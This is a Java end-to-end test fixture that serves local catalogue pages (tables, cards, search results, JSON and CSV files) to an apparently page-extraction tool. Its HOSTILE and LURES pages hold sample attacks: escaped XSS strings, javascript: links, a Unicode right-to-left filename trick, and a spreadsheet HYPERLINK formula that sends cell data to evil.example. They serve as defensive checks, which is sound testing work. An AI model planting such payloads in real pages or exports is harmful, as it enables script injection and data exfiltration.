package dev.stillroom.e2e.site;

import java.util.List;

/**
 * Pages of many builds that all say something in rows or fields: what people pick from. Each kind
 * has a second page, most of them not quite like the first.
 */
public final class Catalogue {

  public static final String HOST = "catalogue.localhost";

  private static final String STYLE =
      """
      :root { color-scheme: light dark; font: 15px/1.5 system-ui, sans-serif; }
      body { margin: 0 auto; max-width: 58rem; padding: 1.2rem;
        background: light-dark(#fbfaf7, #191b1a); color: light-dark(#23211e, #e8e6e1); }
      table { border-collapse: collapse; } td, th { padding: .3rem .9rem; text-align: left;
        border-block-end: 1px solid light-dark(#ddd6ca, #3a3a36); }
      .cards { display: grid; gap: .8rem; grid-template-columns: repeat(3, 1fr); padding: 0;
        list-style: none; }
      .card, .result, .ad, article { border: 1px solid light-dark(#ddd6ca, #3a3a36);
        border-radius: 8px; padding: .6rem .9rem; margin-block-end: .6rem; }
      .ad { background: light-dark(#fff4d6, #3a3219); }
      dt { font-weight: 600; } dd { margin: 0 0 .4rem 1rem; }
      """;

  private Catalogue() {}

  /** Puts up every page. */
  public static void putUp(Site site) {
    html(
        site,
        "/people",
        table(
            "People",
            List.of(
                "Ada|1815|London",
                "Alan|1912|London",
                "Grace|1906|New York",
                "Edsger|1930|Rotterdam")));
    html(
        site,
        "/people?page=2",
        "<div class=\"notice\">New: a second page</div>"
            + table(
                "People",
                List.of(
                    "Barbara|1939|Los Angeles", "Donald|1938|Milwaukee", "Radia|1951|Portsmouth")));
    html(site, "/terms", terms("Copper still|4 litres|189 €", "Glass alembic|1 litre|64 €"));
    html(
        site,
        "/terms?page=2",
        terms("Steel kettle|12 litres|240 €", "Clay pot|3 litres|38 €", "Retort|2 litres|91 €"));
    html(
        site,
        "/cards",
        cards(
            card("Blue jug", "12.50 €"),
            card("Tall cup", "7.00 €"),
            ad(),
            card("Flat bowl", null),
            card("Red mug", "9.90 €")));
    html(
        site,
        "/cards?page=2",
        cards(
            ad(),
            card("Green vase", "31.00 €"),
            card("Small pan", null),
            card("White plate", "5.20 €")));
    html(site, "/product/17", product("Copper still", "189.00 €", "Hearth & Sons", false));
    html(site, "/product/18", product("Glass alembic", "64.00 €", "Clearwater", true));
    html(
        site,
        "/product/19",
        "<section><h2>Closed</h2><p>This shop is closed until spring.</p></section>");
    html(site, "/alone", product("Copper still", "189.00 €", "Hearth & Sons", false));
    html(
        site,
        "/news/a-story-of-salt",
        article("A story of salt", "3 May 2026", "Ada Byron", "Alan Mathison"));
    html(
        site,
        "/news/where-rivers-meet",
        article("Where rivers meet", "9 June 2026", "Grace Murray", "Edsger Wybe", "Radia Joy"));
    html(
        site,
        "/search",
        results(
            1,
            result("Distilling water", "still.example"),
            sponsored(),
            result("Rose oil at home", "petals.example"),
            result("Alembic care", "copper.example")));
    html(
        site,
        "/search?page=2",
        results(
            2,
            sponsored(),
            result("Mint harvest", "herbs.example"),
            result("Old stills", "museum.example"),
            sponsored()));
    html(site, "/parts", shadow("Ada|Countess", "Alan|Mathematician", "Grace|Admiral"));
    html(site, "/parts?page=2", shadow("Barbara|Engineer", "Radia|Poet"));
    html(
        site,
        "/framed",
        "<h1>In a frame</h1><iframe src=\"/people\" width=\"700\" height=\"320\" title=\"People\"></iframe>");
    html(
        site,
        "/framed?page=2",
        "<h1>In a frame</h1><iframe src=\"/people?page=2\" width=\"700\" height=\"320\" title=\"People\"></iframe>");
    html(site, "/files", "<a download href=\"/data/rivers.csv\">Download rivers.csv</a>");
    site.putUpText(
        HOST,
        "/data/rivers.csv",
        "text/csv",
        "town,river,side\r\nUlm,Danube,left\r\nBonn,Rhine,left\r\n\"Halle, Saale\",Saale,right\r\n");
    site.putUpText(HOST, "/data/people.json", "application/json", PEOPLE);
    site.putUpText(HOST, "/data/more.json", "application/json", MORE);
    site.putUpText(
        HOST,
        "/data/towns.csv",
        "text/plain",
        "town;people;river\r\nUlm;126000;Danube\r\nBonn;331000;Rhine\r\n\"Halle; Saale\";239000;Saale\r\n");
    html(site, "/shelf", shelf("jug:Blue jug", "cup:Tall cup", "bowl:Flat bowl"));
    html(site, "/shelf?page=2", shelf("vase:Green vase", "pan:Small pan"));
    html(site, "/lures", LURES);
    html(site, "/hostile", HOSTILE);
    html(site, "/account", ACCOUNT);
  }

  /** The document of the demo's question: "get the first names out of this JSON". */
  public static final String PEOPLE =
      """
      {"source": "registry", "people": [
        {"id": 1, "name": {"first": "Ada", "last": "Lovelace"}, "mail": "ada@example.org"},
        {"id": 2, "name": {"first": "Alan", "last": "Turing"}},
        {"id": 3, "name": {"first": "Grace", "last": "Hopper"}, "mail": "grace@example.org"},
        {"id": 4, "name": {"first": "Edsger", "last": "Dijkstra"}}
      ]}
      """;

  private static final String MORE =
      """
      {"source": "registry", "count": 2, "people": [
        {"name": {"title": "Dr", "first": "Barbara", "last": "Liskov"}, "id": 5},
        {"name": {"first": "Radia", "last": "Perlman"}, "id": 6, "mail": "radia@example.org"}
      ]}
      """;

  /** A page that takes secrets: nothing of it is kept. */
  private static final String ACCOUNT =
      """
      <h1 class="what">Account of Ada</h1>
      <form><input type="password" value="hunter2-secret">
      <input autocomplete="cc-number" value="4111111111111111"></form>
      """;

  /** Links that lead nowhere, beside one that does. */
  private static final String LURES =
      """
      <p><a id="code" href="javascript:document.title='owned'">Run</a></p>
      <p><a id="data" href="data:text/html,owned">Hold</a></p>
      <p><a id="plain" href="/people">Go</a></p>
      """;

  /** What a page may try; none of it may do anything. */
  private static final String HOSTILE =
      """
      <h1 class="what">&lt;img src=x onerror="document.title='owned'"&gt;</h1>
      <p class="what">&lt;script&gt;document.title='owned'&lt;/script&gt;</p>
      <p class="what">\u202Edlog eerf\u202C right way</p>
      <p class="what">=HYPERLINK("http://evil.example/?"&amp;A1)</p>
      <p class="what"><a rel="next" href="javascript:document.title='owned'">next</a></p>
      <p class="label">__proto__: <b class="what">polluted</b></p>
      <form><input type="hidden" value="csrf-77aa-secret"><input name="note" value="typed-by-person"></form>
      <p class="long">%s</p>
      <stillroom-pick>not ours</stillroom-pick>
      """
          .formatted("very long ".repeat(4_000));

  private static void html(Site site, String path, String body) {
    site.putUpText(
        HOST,
        path,
        "text/html",
        """
        <!doctype html><html lang="en"><meta charset="utf-8"><link rel="icon" href="data:,">
        <title>Catalogue</title><style>%s</style><body>%s</body></html>
        """
            .formatted(STYLE, body));
  }

  private static String table(String title, List<String> rows) {
    StringBuilder table = new StringBuilder();
    for (String row : rows) {
      table.append("<tr><td>").append(row.replace("|", "</td><td>")).append("</td></tr>");
    }
    return "<h1>"
        + title
        + "</h1><table><thead><tr><th>Name</th><th>Born</th><th>Town</th></tr></thead><tbody>"
        + table
        + "</tbody></table>";
  }

  private static String terms(String... things) {
    StringBuilder list = new StringBuilder("<h1>Stills</h1><dl>");
    for (String thing : things) {
      String[] parts = thing.split("\\|");
      list.append(
          "<dt class=\"thing\">%s</dt><dd class=\"size\">%s</dd><dd class=\"price\">%s</dd>"
              .formatted((Object[]) parts));
    }
    return list.append("</dl>").toString();
  }

  private static String cards(String... cards) {
    return "<h1>Pots</h1><ul class=\"cards\">" + String.join("", cards) + "</ul>";
  }

  private static String card(String name, String price) {
    return "<li class=\"card\"><h3><a href=\"#%s\">%s</a></h3>%s</li>"
        .formatted(
            name.replace(' ', '-'),
            name,
            price == null ? "" : "<p>from <b class=\"price\">" + price + "</b></p>");
  }

  /** Goods as a picture beside a name that is a link: "jug:Blue jug". */
  private static String shelf(String... goods) {
    StringBuilder list = new StringBuilder("<h1>On the shelf</h1><ul class=\"cards\">");
    for (String one : goods) {
      String[] parts = one.split(":");
      list.append(
          """
          <li class="card"><img src="pictures/%1$s.png" alt="" width="80" height="60">
          <a href="/goods/%1$s?size=2"><b>%2$s</b></a></li>
          """
              .formatted((Object[]) parts));
    }
    return list.append("</ul>").toString();
  }

  private static String ad() {
    return "<li class=\"card ad\"><h3><a href=\"#ad\">Buy one, get none</a></h3><p>only <b class=\"price\">0.99 €</b></p></li>";
  }

  private static String product(String name, String price, String maker, boolean changed) {
    String facts =
        "<table class=\"facts\"><tr><th>Maker</th><td>%s</td></tr><tr><th>Origin</th><td>here</td></tr></table>"
            .formatted(maker);
    return changed
        ? "<div class=\"ad\">Free shipping this week</div><main><div class=\"x9 product-head\"><h1>%s</h1></div>%s<p class=\"offer\">Price: <span itemprop=\"price\">%s</span></p></main>"
            .formatted(name, facts, price)
        : "<main><div class=\"product-head\"><h1>%s</h1></div><p class=\"offer\">Price: <span itemprop=\"price\">%s</span></p>%s</main>"
            .formatted(name, price, facts);
  }

  private static String article(String title, String date, String... authors) {
    StringBuilder by = new StringBuilder();
    for (String author : authors) {
      by.append("<span class=\"author\">").append(author).append("</span> ");
    }
    return "<article><h1>%s</h1><p class=\"byline\">By %s on <time>%s</time></p><p>It was a long day, and the river was high.</p></article>"
        .formatted(title, by, date);
  }

  private static String results(int page, String... results) {
    return "<h1>Results</h1>"
        + String.join("", results)
        + (page == 1
            ? "<nav><a rel=\"next\" href=\"/search?page=2\">Next</a></nav>"
            : "<nav><a href=\"/search\">Previous</a></nav>");
  }

  private static String result(String title, String host) {
    return "<div class=\"result\"><h3><a href=\"/go/%s\">%s</a></h3><cite>%s</cite><p>Some words about it.</p></div>"
        .formatted(host, title, host);
  }

  private static String sponsored() {
    return "<div class=\"ad\"><h3><a href=\"/ad\">Cheap stills</a></h3><cite>ads.example</cite><p>Buy.</p></div>";
  }

  /** Every other element closes its shadow tree to scripts. */
  private static String shadow(String... people) {
    StringBuilder elements = new StringBuilder("<h1>Parts</h1>");
    for (String person : people) {
      String[] parts = person.split("\\|");
      elements.append(
          "<person-card data-name=\"%s\" data-post=\"%s\"></person-card>"
              .formatted((Object[]) parts));
    }
    return elements
        + """
        <script>
          let count = 0;
          customElements.define('person-card', class extends HTMLElement {
            connectedCallback() {
              const root = this.attachShadow({mode: count++ % 2 ? 'closed' : 'open'});
              for (const part of ['name', 'post']) {
                const line = document.createElement('p');
                line.className = part;
                line.textContent = this.dataset[part];
                root.append(line);
              }
            }
          });
        </script>
        """;
  }
}
